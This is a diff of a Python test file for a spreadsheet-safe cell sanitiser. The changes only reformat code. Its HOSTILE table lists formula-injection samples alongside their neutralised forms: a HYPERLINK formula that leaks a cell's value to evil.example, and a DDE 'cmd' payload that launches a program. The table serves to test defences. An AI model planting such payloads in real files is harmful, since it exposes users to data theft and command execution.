@@ -93,7 +93,7 @@ def test_the_refusal_is_indonesian_by_default(home: Path, tmp_path: Path) -> Non
 
 
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")": "'=HYPERLINK(",
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")': "'=HYPERLINK(",
     "+cmd|' /C calc'!A0": "'+cmd|",
     "-2+3": "'-2+3",
     "@SUM(1,2)": "'@SUM(1,2)",
@@ -113,7 +113,12 @@ def test_cells_are_neutralised_as_spreadsheet_safe_exporters_do(text: str) -> No
 
 
 def test_numbers_stay_numbers_and_none_is_empty() -> None:
-    assert (safe_cell(-5), safe_cell(2.5), safe_cell(None), safe_cell(True)) == (-5, 2.5, "", "True")
+    assert (safe_cell(-5), safe_cell(2.5), safe_cell(None), safe_cell(True)) == (
+        -5,
+        2.5,
+        "",
+        "True",
+    )
 
 
 def test_the_csv_file_carries_no_formula_and_no_escape(home: Path, tmp_path: Path) -> None:
